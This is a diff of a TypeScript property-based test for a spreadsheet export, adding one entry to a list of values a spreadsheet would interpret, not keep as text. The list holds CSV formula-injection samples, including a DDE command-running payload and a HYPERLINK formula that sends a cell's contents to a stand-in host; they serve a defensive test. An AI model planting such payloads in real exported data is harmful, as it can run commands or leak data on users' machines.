@@ -20,7 +20,7 @@ const columns = ['appeared', 'rating', 'text', 'link'] as const;
 const titles = ['Дата', 'Оценка', '=1+1', 'Ссылка'];
 
 /** What a spreadsheet itself takes for a value: it must not be read so in text. */
-const TELLING = ['0123', '1234567890123456789', '=1+1', '=HYPERLINK("https://example.com/?"&A1,"да")', "=cmd|' /C calc'!A0", 'TRUE', '12:30', '50%', '1e5', '2026-11-22', '-5', '+7 999 123-45-67'];
+const TELLING = ['0123', '1234567890123456789', '=1+1', '=HYPERLINK("https://example.com/?"&A1,"да")', "=cmd|' /C calc'!A0", 'TRUE', '12:30', '50%', '1e5', '2026-11-22', '-5', '+7 999 123-45-67', '+7 -9999999'];
 
 function rows(): Cell[][] {
   const random = fc.sample(typedTable, { seed: SEED, numRuns: TABLES }).flatMap((table) => table.rows);
